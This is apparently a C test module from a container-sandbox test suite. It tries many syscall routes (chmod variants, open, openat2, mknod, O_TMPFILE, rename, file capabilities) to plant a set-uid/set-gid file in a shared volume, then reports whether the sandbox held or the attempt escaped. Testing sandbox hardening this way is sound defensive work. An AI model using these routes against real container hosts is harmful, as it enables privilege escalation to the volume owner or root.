/*
 * Attack: leave a set-uid file of the volume's owner on the host, which a partner outside runs to
 *   become that owner (root, were the owner root). args: the volume's directory
 *   The bit on the file, looked at from inside, is the verdict; the test looks from outside too.
 * Layer: seccomp (modes with S_ISUID and S_ISGID), userns (the owner's map).
 * Source: CVE-2021-41103 and CVE-2018-15664's neighbours; chmod(2), fchmodat2(2), open(2).
 */
#include "attack.h"

#define WANTED (04755 | 02000)

static char path[512];

static int make_file(char **args, mode_t mode)
{
    int fd;

    umask(0);
    snprintf(path, sizeof path, "%s/planted-%d", need_arg(args, 0), getpid());
    fd = open(path, O_WRONLY | O_CREAT | O_EXCL, mode);
    return fd;
}

static int plain_file(char **args)
{
    int fd = make_file(args, 0755);

    if (fd < 0)
        impossible("create %s: %s", path, strerror(errno));
    return fd;
}

_Noreturn static void judge_bits(const char *how, long result)
{
    int error = errno;
    struct stat st = {0};

    if (stat(path, &st) < 0) {
        if (result < 0 && is_refusal(error))
            held("%s: %s", how, strerror(error));
        impossible("%s, then stat: %s", how, strerror(errno));
    }
    if (st.st_mode & (S_ISUID | S_ISGID))
        escaped("%s made %s mode %o of uid %u", how, path, st.st_mode & 07777, st.st_uid);
    held("%s: %s, mode %o", how, result < 0 ? strerror(error) : "no error", st.st_mode & 07777);
}

static void by_chmod(char **args)
{
    plain_file(args);
    judge_bits("chmod", syscall(SYS_chmod, path, (long)WANTED));
}

static void by_fchmod(char **args)
{
    int fd = plain_file(args);

    judge_bits("fchmod", syscall(SYS_fchmod, fd, (long)WANTED));
}

static void by_fchmodat(char **args)
{
    plain_file(args);
    judge_bits("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, path, (long)WANTED));
}

static void by_fchmodat2(char **args)
{
    plain_file(args);
    judge_bits("fchmodat2", syscall(452, AT_FDCWD, path, (long)WANTED, 0L));
}

static void by_proc_fd(char **args)
{
    char link[64];

    snprintf(link, sizeof link, "/proc/self/fd/%d", plain_file(args));
    judge_bits("chmod of /proc/self/fd", syscall(SYS_chmod, link, (long)WANTED));
}

static void by_open(char **args)
{
    judge_bits("open(O_CREAT)", make_file(args, WANTED));
}

static void by_openat2(char **args)
{
    struct {
        uint64_t flags, mode, resolve;
    } how = {O_WRONLY | O_CREAT | O_EXCL, WANTED, 0};

    umask(0);
    snprintf(path, sizeof path, "%s/planted-%d", need_arg(args, 0), getpid());
    judge_bits("openat2", syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof how));
}

static void by_creat(char **args)
{
    umask(0);
    snprintf(path, sizeof path, "%s/planted-%d", need_arg(args, 0), getpid());
    judge_bits("creat", syscall(SYS_creat, path, (long)WANTED));
}

static void by_mknod(char **args)
{
    umask(0);
    snprintf(path, sizeof path, "%s/planted-%d", need_arg(args, 0), getpid());
    judge_bits("mknod", syscall(SYS_mknod, path, (long)(S_IFREG | WANTED), 0L));
}

static void by_tmpfile(char **args)
{
    char link[64];
    int fd;

    umask(0);
    snprintf(path, sizeof path, "%s/planted-%d", need_arg(args, 0), getpid());
    fd = open(args[0], O_WRONLY | O_TMPFILE, WANTED);
    if (fd < 0 && !is_refusal(errno))
        impossible("O_TMPFILE: %s", strerror(errno));
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    judge_bits("O_TMPFILE",
               fd < 0 ? -1 : linkat(AT_FDCWD, link, AT_FDCWD, path, AT_SYMLINK_FOLLOW));
}

/* A set-uid file made where it is harmless, in TMPDIR or /tmp, then moved into the volume. */
static void by_rename(char **args)
{
    const char *beside = getenv("TMPDIR");
    char from[512];
    int fd;

    snprintf(from, sizeof from, "%s/planted-XXXXXX", beside ? beside : "/tmp");
    fd = mkstemp(from);
    if (fd < 0)
        impossible("mkstemp %s: %s", from, strerror(errno));
    snprintf(path, sizeof path, "%s/planted-%d", need_arg(args, 0), getpid());
    syscall(SYS_fchmod, fd, (long)WANTED);
    if (rename(from, path) < 0)
        held("rename: %s", strerror(errno));
    judge_bits("rename", 0);
}

/* A file's capability is as good as the bit. */
static void by_capability(char **args)
{
    uint32_t v2[5] = {0x02000001, 1 << 13, 0, 0, 0}; /* effective, CAP_NET_RAW */
    int fd = plain_file(args);

    judge_call("fsetxattr(security.capability)",
               syscall(SYS_fsetxattr, fd, "security.capability", v2, sizeof v2, 0L));
}

ATTACK({"chmod", by_chmod}, {"fchmod", by_fchmod}, {"fchmodat", by_fchmodat},
       {"fchmodat2", by_fchmodat2}, {"proc_fd", by_proc_fd}, {"open", by_open},
       {"openat2", by_openat2}, {"creat", by_creat}, {"mknod", by_mknod}, {"tmpfile", by_tmpfile},
       {"rename", by_rename}, {"capability", by_capability})
